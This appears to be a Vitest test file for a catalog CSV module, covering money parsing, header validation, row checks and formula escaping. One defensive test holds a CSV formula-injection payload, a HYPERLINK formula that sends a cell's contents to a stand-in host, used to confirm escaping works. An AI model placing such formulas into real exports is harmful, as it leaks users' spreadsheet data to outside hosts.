import { describe, expect, it } from "vitest";

import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";

import { BASE_COLUMNS, checkHeader, formatMoney, parseMoney, parseRow } from "./csv-format";

describe("catalog CSV format", () => {
  it("reads so'm as people write them into exact tiyin, and writes them back", () => {
    expect(parseMoney("129990")).toBe(12_999_000);
    expect(parseMoney("129 990,50")).toBe(12_999_050);
    expect(parseMoney("0.29")).toBe(29);
    expect(parseMoney("1.5")).toBe(150);
    for (const bad of ["", "-5", "1.234", "abc", "1e6", "12,345.6"]) expect(parseMoney(bad)).toBeNull();
    for (const amount of [0, 29, 150, 12_999_000, 12_999_050]) expect(parseMoney(formatMoney(amount))).toBe(amount);
  });

  it("names missing, unknown and repeated columns", () => {
    expect(checkHeader([...BASE_COLUMNS, "attr:ram"])).toBeNull();
    expect(checkHeader(["sku", "price"])).toContain("product_ref");
    expect(checkHeader([...BASE_COLUMNS, "colour"])).toBe("Unknown column: colour");
    expect(checkHeader([...BASE_COLUMNS, "sku"])).toBe("The column sku appears twice");
  });

  it("checks a row like the product editor and reports every problem with its column", () => {
    const category = () => ({
      attributes: [{ key: "ram", name: { uz: "RAM", ru: "RAM", en: "RAM" }, type: "enum" as const, required: true, options: [] }],
    });
    const result = parseRow(
      { product_ref: "P 1", category: "x", title_uz: "", description_uz: "d", sku: "A", price: "-1", "attr:ram": "" },
      7,
      category,
    );
    expect("errors" in result && result.errors.map((e) => [e.line, e.field])).toEqual([
      [7, "product_ref"],
      [7, "title_uz"],
      [7, "attr:ram"],
      [7, "price"],
    ]);
  });

  it("exports formulas as text and imports them back unchanged", () => {
    const record = {
      product_ref: "P1",
      category: "c",
      title_uz: '=HYPERLINK("https://evil.example/?"&A1,"click")',
      description_uz: "+998 90 123 45 67",
      sku: "-SKU-1",
      price: "1000",
    };
    const csv = stringify([record], { header: true, escape_formulas: true });
    expect(csv).toContain("'=HYPERLINK");
    const [read] = parse(csv, { columns: true }) as Record<string, string>[];
    const result = parseRow(read!, 2, () => ({ attributes: [] }));
    expect("row" in result && [result.row.product.title.uz, result.row.product.description.uz, result.row.variant.sku]).toEqual([
      record.title_uz,
      record.description_uz,
      record.sku,
    ]);
  });
});
